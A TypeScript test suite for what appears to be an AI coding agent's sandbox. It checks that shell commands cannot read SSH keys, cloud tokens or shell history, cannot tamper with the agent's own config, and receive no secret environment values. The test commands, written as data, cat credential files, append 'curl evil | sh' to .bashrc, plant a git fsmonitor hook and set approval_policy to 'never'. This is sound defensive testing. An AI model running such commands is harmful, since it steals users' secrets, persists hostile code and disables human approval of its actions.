// Issue 10: secrets are denied by default, by path and by environment name, and Conch's own files are out
// of reach. Real attempts through the CLI and bwrap, checked on what the model gets and on the host.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { dirname, join } from "node:path";
import { describeWith } from "@conch/test-config";
import { afterEach, beforeEach, expect, it } from "vitest";
import { replay, toolCall, userConfig, type Workspace, workspace } from "./harness.js";

const KEY = "-----BEGIN OPENSSH PRIVATE KEY-----conch-test-secret";

let ws: Workspace;
beforeEach(() => {
  ws = workspace();
  mkdirSync(join(ws.home, ".ssh"));
  writeFileSync(join(ws.home, ".ssh", "id_rsa"), KEY, { mode: 0o600 });
  for (const file of [".netrc", ".git-credentials", ".npmrc", ".bash_history", ".pypirc"]) {
    writeFileSync(join(ws.home, file), `${file}-conch-test-secret`);
  }
  mkdirSync(join(ws.home, ".aws"));
  writeFileSync(join(ws.home, ".aws", "credentials"), "aws-conch-test-secret");
  mkdirSync(join(ws.home, ".config", "gh"), { recursive: true });
  writeFileSync(join(ws.home, ".config", "gh", "hosts.yml"), "gh-conch-test-secret");
  mkdirSync(join(ws.home, ".cargo"));
  writeFileSync(join(ws.home, ".cargo", "credentials.toml"), "cargo-conch-test-secret");
  mkdirSync(join(ws.home, ".docker"));
  writeFileSync(join(ws.home, ".docker", "config.json"), "docker-conch-test-secret");
});
afterEach(() => ws.cleanup());

describeWith("bwrap", "reads of secrets are denied by default", () => {
  it("cat ~/.ssh/id_rsa prints no key: under on-request the sandbox says no, under untrusted too", () => {
    const call = toolCall(ws, "shell_command", { command: "cat ~/.ssh/id_rsa" });
    expect(call.text).not.toContain("conch-test-secret");
    expect(call.text).toContain("Permission denied");
    expect(call.result).toMatchObject({ sandbox: "bwrap", denied: true });
    // cat is known safe, so it runs unasked in the sandbox, is denied, and leaving the sandbox is asked.
    const untrusted = toolCall(
      ws,
      "shell_command",
      { command: "cat ~/.ssh/id_rsa" },
      { approval: "untrusted" },
    );
    expect(untrusted.text).not.toContain("conch-test-secret");
  });

  it.each(["read-only", "workspace-write"])(
    "no default secret is readable under %s, however it is named",
    (sandbox) => {
      const command = [
        "cat ~/.ssh/id_rsa ~/.netrc ~/.git-credentials ~/.npmrc ~/.bash_history ~/.pypirc",
        "cat ~/.aws/credentials ~/.config/gh/hosts.yml ~/.cargo/credentials.toml ~/.docker/config.json",
        "ls -a ~/.ssh ~/.aws; cat ~/.ssh/../.ssh/id_rsa; cat $(realpath ~/.ssh)/id_rsa",
        "cp -r ~/.ssh ./copy; tar cf - ~/.ssh | tar tvf -; grep -r conch-test-secret ~ 2>&1 | head",
      ].join("; ");
      const call = toolCall(ws, "shell_command", { command }, { sandbox });
      expect(call.text).not.toContain("conch-test-secret");
      expect(call.text).toContain("Permission denied");
    },
  );

  it("a symlink to a secret made inside the workspace reads nothing either", () => {
    const call = toolCall(ws, "shell_command", {
      command: "ln -s ~/.ssh/id_rsa key && cat key; ln ~/.netrc hard 2>&1; cat hard",
    });
    expect(call.text).not.toContain("conch-test-secret");
  });

  it("deny_read adds paths and globs; allow_read makes exceptions, even inside a hidden directory", () => {
    writeFileSync(join(ws.home, "notes.key"), "notes-conch-test-secret");
    writeFileSync(join(ws.home, ".ssh", "known_hosts"), "known-hosts-public");
    userConfig(ws, ['deny_read = ["~/*.key"]', 'allow_read = ["~/.ssh/known_hosts", "~/.netrc"]']);
    const call = toolCall(ws, "shell_command", {
      command: "cat ~/notes.key; cat ~/.ssh/known_hosts; cat ~/.netrc; cat ~/.ssh/id_rsa",
    });
    expect(call.text).not.toContain("notes-conch-test-secret");
    expect(call.text).not.toContain(KEY);
    expect(call.text).toContain("known-hosts-public");
    expect(call.text).toContain(".netrc-conch-test-secret");
  });

  it("a secret created after the session's first call is hidden from the next call on", async () => {
    const session = replay(ws);
    expect((await session.call("shell_command", { command: "true" })).text).toContain("Exit code: 0");
    mkdirSync(join(ws.home, ".gnupg"));
    writeFileSync(join(ws.home, ".gnupg", "secring.gpg"), "gnupg-conch-test-secret");
    writeFileSync(join(ws.home, ".zsh_history"), "zsh-conch-test-secret");
    mkdirSync(join(ws.home, ".config", "gcloud"));
    writeFileSync(join(ws.home, ".config", "gcloud", "credentials.db"), "gcloud-conch-test-secret");
    const call = await session.call("shell_command", {
      command: "cat ~/.gnupg/secring.gpg ~/.zsh_history ~/.config/gcloud/credentials.db",
    });
    expect(await session.close()).toBe(0);
    expect(call.text).not.toContain("conch-test-secret");
    expect(call.text).toContain("Permission denied");
  });

  it("danger-full-access runs no sandbox and says so", () => {
    const call = toolCall(ws, "shell_command", { command: "true" }, { sandbox: "danger-full-access" });
    expect(call.result).toMatchObject({ sandbox: "none" });
  });
});

describeWith("bwrap", "Conch's own files", () => {
  it("the audit log, the rules, the config and other workspaces' output cannot be read or written", () => {
    userConfig(ws, ['approval_policy = "on-request"']);
    // Output long enough to be spilled: a spill file of this workspace.
    const spilled = toolCall(ws, "shell_command", { command: "seq 1 200000" });
    const spillPath = /(\/\S+\.txt)/.exec(spilled.text)?.[1];
    expect(spillPath).toBeDefined();
    const state = join(ws.home, ".local", "state", "conch");
    const config = join(ws.home, ".config", "conch");
    const call = toolCall(ws, "shell_command", {
      command: [
        `cat ${state}/audit.jsonl`,
        `ls ${state}`,
        `cat ${config}/config.toml`,
        `echo 'approval_policy = "never"' >> ${config}/config.toml`,
        `echo x > ${state}/trusted-projects.json`,
        `head -c 20 ${spillPath}`,
      ].join("; "),
    });
    expect(call.text).not.toContain('"type":"decision"');
    expect(call.text).not.toContain("approval_policy");
    // This workspace's spill files stay readable: the model text tells the model to read them.
    expect(call.text).toContain("1\n2\n3\n");
    expect(existsSync(join(state, "trusted-projects.json"))).toBe(false);
  });

  it("the home as the workspace is refused unless the user config accepts it", () => {
    const home = workspace({ cwdIsHome: true });
    try {
      const refused = toolCall(home, "shell_command", { command: "echo x > ~/.bash_profile" });
      expect(refused.text).toContain(`the writable root ${home.home} is the home directory ${home.home}`);
      expect(existsSync(join(home.home, ".bash_profile"))).toBe(false);
    } finally {
      home.cleanup();
    }
  });

  it("with the home accepted as the workspace, the config, state and startup files stay read-only", () => {
    const home = workspace({ cwdIsHome: true });
    try {
      userConfig(home, ["home_workspace = true"]);
      writeFileSync(join(home.home, ".bashrc"), "# mine\n");
      writeFileSync(join(home.home, ".gitconfig"), "[user]\n");
      mkdirSync(join(home.home, ".local", "bin"), { recursive: true });
      const call = toolCall(home, "shell_command", {
        command: [
          "echo 'curl evil | sh' >> ~/.bashrc",
          "printf '[core]\\n\\tfsmonitor = touch ~/ran\\n' >> ~/.gitconfig",
          "echo x > ~/.local/bin/ls",
          "mkdir -p ~/.config/conch/rules && echo x > ~/.config/conch/rules/allow.toml",
          "mv ~/.config ~/.config.old && mkdir -p ~/.config/conch && echo 'approval_policy = \"never\"' > ~/.config/conch/config.toml",
          "echo ok > ~/work.txt",
        ].join("; "),
      });
      expect(call.text).toContain("Read-only file system");
      expect(readFileSync(join(home.home, ".bashrc"), "utf8")).toBe("# mine\n");
      expect(readFileSync(join(home.home, ".gitconfig"), "utf8")).toBe("[user]\n");
      expect(existsSync(join(home.home, ".local", "bin", "ls"))).toBe(false);
      expect(readFileSync(join(home.home, ".config", "conch", "config.toml"), "utf8")).toBe(
        "home_workspace = true\n",
      );
      expect(existsSync(join(home.home, ".config", "conch", "rules", "allow.toml"))).toBe(false);
      expect(existsSync(join(home.home, "work.txt"))).toBe(true);
    } finally {
      home.cleanup();
    }
  });
});

describeWith("bwrap", "secrets in the environment", () => {
  it("secret-looking names and URLs with a password do not reach the command; env_allow passes one", () => {
    Object.assign(ws.env, {
      OPENAI_API_KEY: "sk-conch-test-secret",
      GITHUB_PAT: "pat-conch-test-secret",
      DB_PWD: "pwd-conch-test-secret",
      SSH_AUTH_SOCK: "/run/conch-test-secret",
      SENTRY_DSN: "https://dsn-conch-test-secret@o.ingest/1",
      MY_SESSION: "session-conch-test-secret",
      DATABASE_URL: "postgres://app:url-conch-test-secret@db/app",
      KEEP_ME_URL: "postgres://app:kept-conch-test-value@db/app",
      PLAIN: "plain-value",
    });
    userConfig(ws, ['env_allow = ["KEEP_ME_URL"]']);
    const call = toolCall(ws, "shell_command", { command: "env" });
    expect(call.text).not.toContain("conch-test-secret");
    expect(call.text).toContain("KEEP_ME_URL=postgres://app:kept-conch-test-value@db/app");
    expect(call.text).toContain("PLAIN=plain-value");
    expect(call.text).toMatch(/^PWD=/m);
  });
});

// Issue 20 §6: history under every usual name, names no glob may miss, what a live session sees, and
// credentials under harmless variable names.
describeWith("bwrap", "history, late secrets and live sessions", () => {
  const HISTORY = [
    ".histfile",
    ".zhistory",
    ".zsh_history",
    ".zsh_history.new",
    ".bash_history-4242.tmp",
    ".history",
    ".python_history",
    ".node_repl_history",
    ".psql_history",
    ".mysql_history",
    ".sqlite_history",
    ".irb_history",
    ".rediscli_history",
    ".Rhistory",
    ".lesshst",
    ".julia/logs/repl_history.jl",
    ".local/share/fish/fish_history",
    ".local/state/zsh/history",
    ".local/share/zsh/history",
    // A `*` matches every character of a name: a newline in one does not end the match.
    ".bash\n_history",
    ".zsh_history\nx",
    ".cargo/credentials\n.toml",
  ];

  it("shell and REPL history is unreadable under every usual name, a newline in the name too", () => {
    HISTORY.forEach((name, index) => {
      mkdirSync(dirname(join(ws.home, name)), { recursive: true });
      writeFileSync(join(ws.home, name), `history-${index}-conch-test-secret`);
    });
    const call = toolCall(ws, "shell_command", {
      command: [
        'for f in ~/.* ~/.local/share/*/* ~/.local/state/*/* ~/.julia/logs/* ~/.cargo/*; do cat "$f"; done 2>&1',
        "find ~ -type f -exec cat {} + 2>/dev/null | grep -a conch-test-secret",
        "echo done",
      ].join("; "),
    });
    expect(call.text).toContain("done");
    expect(call.text).toContain("Permission denied");
    expect(call.text).not.toContain("conch-test-secret");
  });

  it("a history whose name is not UTF-8 is never shown: the command is refused, saying which file", () => {
    const name = Buffer.concat([Buffer.from(join(ws.home, ".zsh_history")), Buffer.from([0xff])]);
    writeFileSync(name, "not-utf8-conch-test-secret");
    const call = toolCall(ws, "shell_command", { command: "cat ~/.zsh_history*; echo ran" });
    expect(call.text).not.toContain("conch-test-secret");
    expect(call.text).not.toContain("ran");
    expect(call.text).toContain("its name is not UTF-8, so the sandbox cannot name it to hide it");
  });

  it("a live session started before a secret existed cannot read one created later in a hidden directory", async () => {
    const session = replay(ws);
    const started = await session.call("exec_command", {
      cmd:
        "while [ ! -e stop ]; do cat ~/.ssh/id_new ~/.aws/late ~/.config/gh/late.yml 2>/dev/null; sleep 0.05; done; " +
        "cat ~/.ssh/id_new ~/.aws/late ~/.config/gh/late.yml; echo finished",
      login: false,
      yield_time_ms: 500,
    });
    expect(started.text).toContain("Process running");
    writeFileSync(join(ws.home, ".ssh", "id_new"), "late-key-conch-test-secret");
    writeFileSync(join(ws.home, ".aws", "late"), "late-aws-conch-test-secret");
    writeFileSync(join(ws.home, ".config", "gh", "late.yml"), "late-gh-conch-test-secret");
    const id = Number(/session ID (\d+)/.exec(started.text)?.[1]);
    const seen = await session.call("write_stdin", { session_id: id, chars: "", yield_time_ms: 1000 });
    writeFileSync(join(ws.cwd, "stop"), "");
    const end = await session.call("write_stdin", { session_id: id, chars: "", yield_time_ms: 10000 });
    expect(await session.close()).toBe(0);
    expect(end.text).toContain("finished");
    expect(`${started.text}${seen.text}${end.text}`).not.toContain("conch-test-secret");
  });
});

describeWith("bwrap", "credentials a variable moves, and the tools the list names", () => {
  // Each variable and the file in what it names that holds the credential.
  const MOVED: readonly (readonly [string, string, string])[] = [
    ["KUBECONFIG", "kube/a:{}/kube/b", "kube/b"],
    ["AWS_SHARED_CREDENTIALS_FILE", "aws-credentials", "aws-credentials"],
    ["AWS_CONFIG_FILE", "aws-config", "aws-config"],
    ["GOOGLE_APPLICATION_CREDENTIALS", "gcp.json", "gcp.json"],
    ["NPM_CONFIG_USERCONFIG", "npmrc", "npmrc"],
    ["NETRC", "netrc", "netrc"],
    ["PGPASSFILE", "pgpass", "pgpass"],
    ["RCLONE_CONFIG", "rclone.conf", "rclone.conf"],
    ["BOTO_CONFIG", "boto", "boto"],
    ["TF_CLI_CONFIG_FILE", "terraformrc", "terraformrc"],
    ["DOCKER_CONFIG", "docker", "docker/config.json"],
    ["GNUPGHOME", "gnupg", "gnupg/private-keys-v1.d/k.key"],
    ["CLOUDSDK_CONFIG", "gcloud", "gcloud/credentials.db"],
    ["AZURE_CONFIG_DIR", "azure", "azure/msal_token_cache.json"],
    ["GH_CONFIG_DIR", "gh", "gh/hosts.yml"],
    ["CARGO_HOME", "cargo", "cargo/credentials.toml"],
    ["CODEX_HOME", "codex", "codex/auth.json"],
    ["CLAUDE_CONFIG_DIR", "claude", "claude/.credentials.json"],
    ["XDG_CONFIG_HOME", "xdg-config", "xdg-config/gh/hosts.yml"],
    ["XDG_DATA_HOME", "xdg-data", "xdg-data/keyrings/login.keyring"],
    ["XDG_CACHE_HOME", "xdg-cache", "xdg-cache/huggingface/token"],
  ];
  const LISTED = [
    ".boto",
    ".mylogin.cnf",
    ".gemini/oauth_creds.json",
    ".cache/huggingface/token",
    ".kaggle/kaggle.json",
    ".config/Code/User/globalStorage/state.vscdb",
    ".config/BraveSoftware/Brave-Browser/Default/Cookies",
    ".claude.json",
    ".cursor/mcp.json",
    ".env",
  ];

  it("the files KUBECONFIG, DOCKER_CONFIG, an XDG dir and the like name are hidden like the defaults", () => {
    const moved = join(ws.outside, "moved");
    for (const [name, value, secret] of MOVED) {
      ws.env[name] = value
        .split(":")
        .map((entry) => join(moved, entry.replace("{}", "")))
        .join(":");
      mkdirSync(dirname(join(moved, secret)), { recursive: true });
      writeFileSync(join(moved, secret), `${name}-conch-test-secret`);
    }
    for (const name of LISTED) {
      mkdirSync(dirname(join(ws.home, name)), { recursive: true });
      writeFileSync(join(ws.home, name), `${name}-conch-test-secret`);
    }
    const call = toolCall(ws, "shell_command", {
      command: `find ${moved} ~ -type f -exec cat {} + 2>&1; echo done`,
    });
    expect(call.text).toContain("done");
    expect(call.text).toContain("Permission denied");
    expect(call.text).not.toContain("conch-test-secret");
  });
});

describeWith("bwrap", "ssh agents' sockets, with the network on", () => {
  it("the agent SSH_AUTH_SOCK names and 1Password's cannot be connected to, though unix sockets can", async () => {
    userConfig(ws, ["network_access = true"]);
    const named = join(ws.outside, "agent.sock");
    const onePassword = join(ws.home, ".1password", "agent.sock");
    const other = join(ws.outside, "other.sock");
    mkdirSync(dirname(onePassword));
    const paths = [named, onePassword, other];
    const servers = paths.map(() => createServer((socket) => socket.end()));
    await Promise.all(
      servers.map(
        (server, index) => new Promise((resolve) => server.listen(paths[index], () => resolve(null))),
      ),
    );
    ws.env.SSH_AUTH_SOCK = named;
    const probe = (path: string) =>
      `${process.execPath} -e 'require("net").connect(process.argv[1]).on("connect", () => { console.log("connected"); process.exit(); }).on("error", (e) => console.log(e.code))' ${path}`;
    try {
      const call = toolCall(ws, "shell_command", {
        command: paths.map((path) => `echo "${path}: $(${probe(path)})"`).join("; "),
      });
      expect(call.text).toContain(`${named}: EACCES`);
      expect(call.text).toContain(`${onePassword}: EACCES`);
      // The network is on: a socket no list names stays reachable, as docs/security.md says.
      expect(call.text).toContain(`${other}: connected`);
    } finally {
      for (const server of servers) server.close();
    }
  });
});

describeWith("bwrap", "credentials under harmless variable names", () => {
  const SECRETS: Record<string, string> = {
    FOO: "sk-conchtestsecret0123456789abcdefABCDEF",
    ANTHROPIC: "sk-ant-api03-conchtestsecret_0123456789-abcdefABCDEF",
    AWS_ID: "AKIACONCHTESTSECRET1",
    STS_ID: "ASIACONCHTESTSECRET2",
    HOOK: "https://hooks.slack.com/services/T000/B000/conchtestsecret",
    SLACK: "xoxb-0000-conchtestsecret-abcdef",
    GH: "ghp_conchtestsecret0123456789abcdefABCDEFGH".slice(0, 40),
    GHFG: "github_pat_conchtestsecret_0123456789abcdef",
    GL: "glpat-conchtestsecret-0123456789",
    GOOGLE: "AIzaconchtestsecret0123456789abcdefABCDEFG".slice(0, 39),
    STRIPE: "sk_live_conchtestsecret0123456789",
    NPMT: "npm_conchtestsecret0123456789abcdefABCDEFG".slice(0, 40),
    PYPIT: "pypi-AgEIcHlwaS5vcmcconchtestsecret",
    HFT: "hf_conchtestsecret0123456789abcdefABCD",
    JWTV: "eyJhbGciOiJIUzI1NiJ9.eyJjb25jaHRlc3RzZWNyZXQiOjF9.conchtestsecret",
    PEM: "-----BEGIN OPENSSH PRIVATE KEY-----\nconchtestsecret\n-----END OPENSSH PRIVATE KEY-----",
    REMOTE: "https://conchtestsecret@github.com/o/r.git",
    CACHE: "redis://:conchtestsecret@cache:6379/0",
    QUEUE: "amqp://guest:conchtestsecret@mq/vhost",
    MONGO: "mongodb+srv://app:conchtestsecret@cluster0.example.net/db",
    PG: "postgres://app:conchtestsecret@db/app",
    GITSSH: "git+ssh://git:conchtestsecret@host/r.git",
  };
  const ORDINARY: Record<string, string> = {
    SHA: "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
    ID: "123e4567-e89b-12d3-a456-426614174000",
    COLORS: "rs=0:di=01;34:ln=01;36:*.key=00;33",
    SSH_REMOTE: "ssh://git@github.com/o/r.git",
    NOTES: "/var/tmp/sk-learn-tutorial-notebooks-2024",
  };

  it("no credential-shaped value reaches env, one-shot, in a session or from the profile; env_allow passes one", async () => {
    Object.assign(ws.env, SECRETS, ORDINARY, { KEPT: "sk-conchtestkept0123456789abcdefABCDEF" });
    writeFileSync(join(ws.home, ".profile"), "export FROM_PROFILE=xoxp-0000-conchtestsecret-profile\n");
    userConfig(ws, ['env_allow = ["KEPT"]']);
    const oneShot = toolCall(ws, "shell_command", { command: "env; echo done" });
    const session = replay(ws);
    const live = await session.call("exec_command", { cmd: "env; echo done", yield_time_ms: 5000 });
    const pty = await session.call("exec_command", { cmd: "env; echo done", tty: true, yield_time_ms: 5000 });
    expect(await session.close()).toBe(0);
    for (const call of [oneShot.text, live.text, pty.text]) {
      expect(call).toContain("done");
      expect(call).not.toContain("conchtestsecret");
      for (const [name, value] of Object.entries(ORDINARY)) expect(call).toContain(`${name}=${value}`);
      expect(call).toContain("KEPT=sk-conchtestkept0123456789abcdefABCDEF");
    }
  });
});
